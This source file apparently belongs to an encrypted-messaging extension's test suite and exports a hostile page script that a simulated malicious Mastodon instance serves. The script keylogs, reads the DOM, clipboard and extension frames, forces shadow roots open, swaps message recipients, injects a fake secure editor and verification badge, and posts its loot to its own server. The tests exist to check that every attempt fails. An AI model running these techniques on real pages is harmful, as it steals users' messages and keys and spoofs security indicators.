/**
 * The JavaScript a hostile instance serves in its own web UI (adversary setHostileScript, 'both':
 * one copy runs before Mastodon's app script, one after). It tries every way a page has to get at
 * plaintext, drafts, keys or the security phrase, and records what it tried and what it got in
 * <html data-hostile> and by POSTing to its own origin (what a real attacker would exfiltrate).
 * Kept as plain JavaScript text: it runs in the page, not in Node.
 *
 * Attempt names (the test asserts each was tried and none succeeded):
 *   dom-read, shadow-read, iframe-document, frames-document, frame-location, performance-entries,
 *   post-message, extension-api, fetch-frame, clipboard, keylog, synthetic-events, textarea-swap,
 *   fake-editor, fake-badge
 */
export const HOSTILE_SCRIPT = String.raw`(() => {
  const H = window.__hostile || (window.__hostile = { phases: [], attempts: {}, loot: [], heights: [], replies: [] });
  // Which copy this is: the app's own script tag is parsed already only for the 'after' copy.
  H.phases.push(document.querySelector('script[src*="/packs/app"]') ? 'after' : 'before');
  if (window.__hostileStarted) return;
  window.__hostileStarted = true;

  const attempt = (name, succeeded, detail) => {
    const a = H.attempts[name] || (H.attempts[name] = { tries: 0, succeeded: 0, detail: '' });
    a.tries++;
    if (succeeded) { a.succeeded++; a.detail = String(detail).slice(0, 300); }
  };
  const loot = (what, text) => {
    if (!text) return;
    H.loot.push(what + ': ' + String(text).slice(0, 4000));
    if (H.loot.length > 400) H.loot.splice(0, 200);
  };
  const flush = () => document.documentElement.setAttribute('data-hostile', JSON.stringify(H));
  let lastPost = 0;
  const exfiltrate = () => {
    if (Date.now() - lastPost < 1000) return;
    lastPost = Date.now();
    fetch('/hostile-report', { method: 'POST', body: JSON.stringify({ loot: H.loot.slice(-50) }) }).catch(() => {});
  };

  // Early hooks: open every shadow root (even ones asked for as closed) and keep a handle.
  const shadows = [];
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) {
    const root = attach.call(this, Object.assign({}, init, { mode: 'open' }));
    shadows.push(root);
    return root;
  };
  // Listen to everything that reaches the page: messages, keys, clipboard events.
  window.addEventListener('message', (e) => {
    H.replies.push(String(e.origin) + ' ' + JSON.stringify(e.data).slice(0, 500));
    loot('message from ' + e.origin, JSON.stringify(e.data));
  }, true);
  // Keylogging is tried by listening; whether it got anything is judged from the loot.
  attempt('keylog', false);
  for (const t of ['keydown', 'keypress', 'input', 'paste', 'copy', 'cut']) {
    window.addEventListener(t, (e) => {
      const data = (e.key || '') + (e.data || '') + (e.clipboardData ? e.clipboardData.getData('text') : '');
      loot('event ' + t, data);
    }, true);
  }

  const extFrames = () => {
    const out = [];
    const visit = (root) => {
      for (const f of root.querySelectorAll('iframe')) if (/^(chrome|moz)-extension:/.test(f.src)) out.push(f);
      for (const el of root.querySelectorAll('*')) if (el.shadowRoot) visit(el.shadowRoot);
    };
    visit(document);
    for (const s of shadows) visit(s);
    return out;
  };

  const SHAPES = (session) => [
    { type: 'overlay/view-join', payload: { session } },
    { type: 'overlay/editor-get', payload: { session } },
    { type: 'frame/hello', payload: { session } },
    { type: 'overlay/editor-draft', payload: { session, text: '@eve@a.test hijacked draft' } },
    { type: 'overlay/editor-submit', payload: { session } },
    { type: 'settings/security-phrase/get', payload: {} },
    { cmd: 'getPlaintext' }, { action: 'getDraft' }, 'plaintext?', { hush: true, op: 'export-backup' },
  ];

  const sweep = () => {
    // 1. The whole DOM and every shadow root the page can reach.
    attempt('dom-read', false);
    // innerText is what is shown; textContent also has what Hush hides (the ciphertext).
    if (document.body) loot('dom', document.body.innerText + '\n' + document.body.textContent);
    for (const el of document.querySelectorAll('textarea, input')) loot('value', el.value);
    attempt('shadow-read', false);
    for (const s of shadows) loot('shadow', s.innerHTML + ' ' + (s.textContent || ''));
    // 2. The secure frames, every way a page can name them.
    const frames = extFrames();
    for (const f of frames) {
      loot('frame src', f.src);
      // A frame still loading holds the initial about:blank document, which is the page's own
      // (and empty): only a document at the frame's extension URL counts as a read.
      const isRead = (d) => !!d && d.URL !== 'about:blank';
      try { const d = f.contentDocument; attempt('iframe-document', isRead(d), d && d.URL); if (d) loot('contentDocument', d.documentElement.outerHTML); } catch { attempt('iframe-document', false); }
      try { const d = f.contentWindow.document; attempt('iframe-document', isRead(d), d.URL); loot('contentWindow', d.documentElement.outerHTML); } catch { attempt('iframe-document', false); }
      try { const href = f.contentWindow.location.href; attempt('frame-location', href !== 'about:blank', href); } catch { attempt('frame-location', false); }
      const h = parseFloat(f.style.height);
      if (f.closest('.hush-view') && Number.isFinite(h)) H.heights.push(h, Math.round(f.getBoundingClientRect().height));
      const session = new URL(f.src).searchParams.get('s') || '';
      for (const shape of SHAPES(session)) {
        try { f.contentWindow.postMessage(shape, '*'); attempt('post-message', false); } catch { attempt('post-message', false); }
      }
      // 3. The extension itself, by the id in the frame's URL.
      const id = new URL(f.src).host;
      const rt = window.chrome && window.chrome.runtime;
      if (rt && typeof rt.sendMessage === 'function') {
        for (const shape of SHAPES(session)) {
          try {
            rt.sendMessage(id, shape, (reply) => { attempt('extension-api', reply !== undefined, JSON.stringify(reply)); loot('extension reply', JSON.stringify(reply)); });
          } catch (e) { attempt('extension-api', false, e); }
        }
      } else attempt('extension-api', false, 'no runtime in the page');
      if (typeof browser !== 'undefined' && browser.runtime) attempt('extension-api', true, 'browser.runtime visible to the page');
      fetch(f.src).then((r) => r.text()).then((t) => { attempt('fetch-frame', false); loot('fetched frame', t); }, () => attempt('fetch-frame', false));
    }
    for (let i = 0; i < window.frames.length; i++) {
      try { const d = window.frames[i].document; const ours = frames.some((f) => f.contentWindow === window.frames[i]); attempt('frames-document', ours && d.URL !== 'about:blank', d.URL); loot('frames[i]', d.body && d.body.innerText); } catch { attempt('frames-document', false); }
    }
    // 4. Side channels: resource timing names, the clipboard.
    attempt('performance-entries', false);
    loot('performance', performance.getEntries().map((e) => e.name).join(' '));
    if (navigator.clipboard && navigator.clipboard.readText) {
      navigator.clipboard.readText().then((t) => { attempt('clipboard', t !== '', t); loot('clipboard', t); }, () => attempt('clipboard', false));
    } else attempt('clipboard', false);
    flush();
    exfiltrate();
  };

  // The mention swap: the page rewrites Mastodon's compose box to name carol (the box is only a
  // seed for the secure editor; publishing must follow the editor's recipient list). Records the
  // attempt only when the box really holds the swapped mention afterwards.
  const setValue = Object.getOwnPropertyDescriptor(HTMLTextAreaElement.prototype, 'value').set;
  const swap = () => {
    const t = document.querySelector('form.compose-form textarea');
    if (!(t instanceof HTMLTextAreaElement)) return;
    const next = t.value.replace(/@[\w.-]+@[\w.-]+/g, '@carol@a.test');
    setValue.call(t, next.includes('@carol@a.test') ? next : '@carol@a.test ' + next);
    t.dispatchEvent(new Event('input', { bubbles: true }));
    if (t.value.includes('@carol@a.test')) attempt('textarea-swap', false, t.value);
  };
  // And whenever something writes a Hush ciphertext into the box, retarget it too.
  document.addEventListener('input', (e) => {
    const t = e.target;
    if (!(t instanceof HTMLTextAreaElement) || !t.value.includes('[Hush encrypted message]') || t.value.includes('@carol@a.test')) return;
    swap();
  }, true);

  // Spoofed user actions, and a fake secure editor and badge, when the test says "go".
  window.__hostileGo = (what) => {
    if (what === 'spoof') spoof(); else if (what === 'swap') swap(); else fake();
    flush();
  };
  const spoof = () => {
    attempt('synthetic-events', false);
    const post = document.querySelector('.hush-post');
    if (post) post.click();
    const form = document.querySelector('form.compose-form');
    if (form) {
      form.dispatchEvent(new Event('submit', { bubbles: true, cancelable: true }));
      try { form.requestSubmit(); } catch {}
      const ta = form.querySelector('textarea');
      if (ta) ta.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', ctrlKey: true, bubbles: true, cancelable: true }));
    }
  };
  const fake = () => {
    const host = document.querySelector('.hush-editor-host');
    if (host) {
      attempt('fake-editor', false);
      const box = document.createElement('textarea');
      box.className = 'hostile-fake-editor';
      box.placeholder = 'Encrypted message';
      host.parentElement.insertBefore(box, host);
      box.addEventListener('input', () => loot('fake editor', box.value));
    }
    const status = document.querySelector('.status__content, .status');
    if (status) {
      attempt('fake-badge', false);
      const badge = document.createElement('div');
      badge.className = 'hush-view hostile-fake-badge';
      badge.textContent = '🔑 Verified: alice@a.test — this message is end-to-end encrypted';
      status.after(badge);
    }
  };

  const start = () => {
    sweep();
    setInterval(sweep, 700);
    new MutationObserver(() => { for (const el of document.querySelectorAll('textarea')) loot('value', el.value); }).observe(document.documentElement, { subtree: true, childList: true, attributes: true, characterData: true });
  };
  if (document.readyState === 'loading') document.addEventListener('DOMContentLoaded', start); else start();
})();`;

export interface HostileReport {
  phases: string[];
  attempts: Record<string, { tries: number; succeeded: number; detail: string }>;
  loot: string[];
  heights: number[];
  replies: string[];
}
